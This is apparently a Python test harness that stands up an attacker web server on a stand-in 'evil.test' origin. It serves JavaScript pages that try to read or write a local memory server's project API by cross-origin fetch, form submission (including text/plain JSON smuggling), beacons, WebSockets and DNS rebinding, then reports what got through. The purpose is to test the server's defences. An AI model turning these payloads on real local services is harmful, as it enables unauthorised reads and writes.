# SPDX-License-Identifier: Apache-2.0
"""Pages that try to read or write a memory server, and who serves them and listens."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

PATIENCE = 60.0
"""Seconds in which all pages have tried."""

_FRAME = """<!doctype html><meta charset=utf-8><body><script>
const S = "SERVER", R = S + "/v1/projects", W = S + "/v1/projects";
const E = S + "/v1/projects/PROJECT/reindex";
const J = JSON.stringify({name: "attack by NAME"});
const tell = (what, text) => fetch("/report", {
  method: "POST", keepalive: true, body: JSON.stringify({name: "NAME", what, text})});
const got = (text) => tell("read", String(text));
const tried = () => tell("done", "");
const wait = (ms) => new Promise((then) => setTimeout(then, ms));
const element = (tag, fields) => new Promise((then) => {
  const one = Object.assign(document.createElement(tag), fields);
  one.onload = () => then(one); one.onerror = () => then(null);
  document.body.append(one); setTimeout(() => then(one), 1500);});
const form = (enctype, action, fields) => {
  const frame = document.createElement("iframe"); frame.name = "hidden" + enctype;
  const one = document.createElement("form");
  Object.assign(one, {method: "post", action, enctype, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    one.append(Object.assign(document.createElement("input"), {name, value})); }
  document.body.append(frame, one); one.submit(); return wait(1000);};
(async () => { try { ATTACK } catch (error) { await tell("error", String(error)); }
  await tried(); })();
</script>"""

PAGES = {
    "fetch with CORS": """
        for (const [to, how] of [[R, {}], [R, {credentials: "include"}],
            [W, {method: "POST", headers: {"Content-Type": "application/json"}, body: J}],
            [E, {method: "POST"}]]) {
          try { got(await (await fetch(to, how)).text()); } catch (error) {} }""",
    "fetch without CORS": """
        for (const [to, how] of [[R, {}], [W, {method: "POST", body: J}],
            [E, {method: "POST"}]]) {
          try { const came = await fetch(to, {mode: "no-cors", ...how});
            if (came.type !== "opaque") got(await came.text()); } catch (error) {} }""",
    "form": """
        await form("application/x-www-form-urlencoded", W, {name: "attack by form"});
        await form("application/x-www-form-urlencoded", E, {});""",
    "form as text": """
        await form("text/plain", W, {'{"name":"attack by text","slug":"': '"}'});""",
    "form in parts": """
        await form("multipart/form-data", W, {name: "attack by parts"});
        await form("multipart/form-data", E, {});""",
    "image": "const one = await element('img', {src: R}); if (one && one.width) got(one.width);",
    "script": """
        window.onerror = (what) => { if (what !== "Script error.") got(what); };
        const before = Object.keys(window).length;
        await element("script", {src: R});
        if (Object.keys(window).length > before + 1) got("a global");""",
    "style": """
        const one = await element("link", {rel: "stylesheet", href: R});
        try { got(one.sheet.cssRules.length + " rules"); } catch (error) {}""",
    "event source": """
        const one = new EventSource(R); one.onmessage = (e) => got(e.data);
        one.onopen = () => got("open"); await wait(1000); one.close();""",
    "web socket": """
        const one = new WebSocket(R.replace("http", "ws"));
        one.onmessage = (e) => got(e.data); one.onopen = () => got("open");
        await wait(1000);""",
    "frame": """
        const one = await element("iframe", {src: R});
        try { got(one.contentDocument.body.innerText || null.x); } catch (error) {}""",
    "object": """
        const one = await element("object", {data: R});
        try { got(one.contentDocument.body.innerText || null.x); } catch (error) {}
        await element("embed", {src: R});""",
    "beacon": """
        navigator.sendBeacon(E); navigator.sendBeacon(W, J);
        try { navigator.sendBeacon(W, new Blob([J], {type: "application/json"})); }
        catch (error) {} await wait(1000);""",
    "a header of its own": """
        await new Promise((then) => { const one = new XMLHttpRequest();
          one.open("POST", W); one.setRequestHeader("X-Api-Key", "guess");
          one.setRequestHeader("Content-Type", "application/json");
          one.onload = () => got(one.responseText); one.onloadend = then; one.send(J);});""",
    "prefetch": """
        await element("link", {rel: "prefetch", href: R});
        await element("link", {rel: "preload", as: "fetch", href: R, crossOrigin: ""});
        try { got((await (await fetch(R, {cache: "only-if-cached", mode: "same-origin"}))
          .text())); } catch (error) {}""",
    "rebound name": """
        const N = R.replace("127.0.0.1", "evil.test");
        for (const [to, how] of [[N, {}], [N, {mode: "no-cors"}],
            [E.replace("127.0.0.1", "evil.test"), {method: "POST", mode: "no-cors"}]]) {
          try { const came = await fetch(to, how);
            if (came.type !== "opaque") got(await came.text()); } catch (error) {} }""",
}  # fmt: skip


@dataclass
class Attacker:
    """Who serves the pages, and hears what each could read.

    Attributes:
        server: The address that they attack.
        project_id: A project of it, whose id has become known.
        heard: What the pages read, by their names.
        errors: What went wrong in a page itself.
    """

    server: str
    project_id: str
    heard: dict[str, list[str]] = field(default_factory=dict)
    errors: list[str] = field(default_factory=list)
    _done: set[str] = field(default_factory=set)
    _news: threading.Condition = field(default_factory=threading.Condition)

    @contextmanager
    def at_work(self) -> Iterator[str]:
        """Serve the page that frames all others; its address."""
        handler = type("Handler", (_Handler,), {"attacker": self})
        with ThreadingHTTPServer(("127.0.0.1", 0), handler) as listening:
            thread = threading.Thread(target=listening.serve_forever)
            thread.start()
            try:
                yield f"http://evil.test:{listening.server_port}/"
            finally:
                listening.shutdown()
                thread.join()

    def wait_until_all_tried(self) -> None:
        """Wait until every page did what it can."""
        with self._news:
            tried = self._news.wait_for(lambda: self._done >= {*PAGES}, PATIENCE)
        assert tried, f"never seen: {sorted({*PAGES} - self._done)}"

    def page(self, path: str) -> str:
        """The page of one attack, or the one that frames them all."""
        names = list(PAGES)
        if not path[1:].isdigit():
            return "".join(
                f"<iframe src=/{at} sandbox='allow-scripts allow-forms "
                "allow-same-origin'></iframe>"
                for at in range(len(names))
            )
        name = names[int(path[1:])]
        page = _FRAME.replace("ATTACK", PAGES[name]).replace("NAME", name)
        return page.replace("SERVER", self.server).replace("PROJECT", self.project_id)

    def hear(self, told: dict[str, Any]) -> None:
        """Note what a page tells."""
        with self._news:
            if told["what"] == "done":
                self._done.add(told["name"])
            elif told["what"] == "error":
                self.errors.append(f"{told['name']}: {told['text']}")
            else:
                self.heard.setdefault(told["name"], []).append(told["text"])
            self._news.notify_all()


class _Handler(BaseHTTPRequestHandler):
    attacker: Attacker

    def do_GET(self) -> None:
        self._answer(self.attacker.page(self.path).encode())

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.attacker.hear(json.loads(body))
        self._answer(b"")

    def log_message(self, *_: object) -> None:
        """Say nothing."""

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
